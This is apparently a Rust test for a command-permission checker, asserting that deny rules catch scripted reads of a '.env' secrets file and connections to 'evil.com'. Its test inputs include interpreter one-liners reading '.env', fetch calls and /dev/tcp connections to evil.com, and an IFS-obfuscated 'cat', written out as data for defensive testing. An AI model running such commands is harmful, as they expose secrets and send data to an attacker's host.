//! What cannot be understood is searched for what is denied.

use crate::kit::hold;

#[test]
fn a_program_of_another_language_is_searched_for_denied_paths_and_hosts() {
    hold(
        &[
            "allow Bash",
            r#"{"effect":"deny","path":"**/.env"}"#,
            r#"{"effect":"deny","domain":"evil.com"}"#,
        ],
        &[
            ("deny", "python3 -c \"print(open('.env').read())\""),
            ("deny", "python3 -c \"open('sub/../.env')\""),
            ("deny", "node -e 'fs.readFileSync(\"./.env\")'"),
            ("deny", "perl -ne 'print' .env"),
            ("deny", "python3 <<'E'\nopen('/repo/.env')\nE"),
            ("deny", "ruby -e 'File.read(%q(.env))'"),
            ("deny", "python3 -c \"get('https://evil.com')\""),
            ("deny", "node -e \"fetch('https://evil.com/x')\""),
            ("deny", "echo x > /dev/tcp/evil.com/80"),
            ("deny", "exec 3<>/dev/tcp/EVIL.com/80"),
            ("deny", "cat${IFS}.env"),
            ("ask", "python3 -c \"print(1)\""),
            ("ask", "python3 -c \"open('.env.example')\""),
            ("ask", "python3 -c \"get('https://evil.com.example.org')\""),
            ("ask", "echo x > /dev/tcp/x.org/80"),
            ("allow", "python3 script.py 'a (.env)'"),
        ],
    );
}
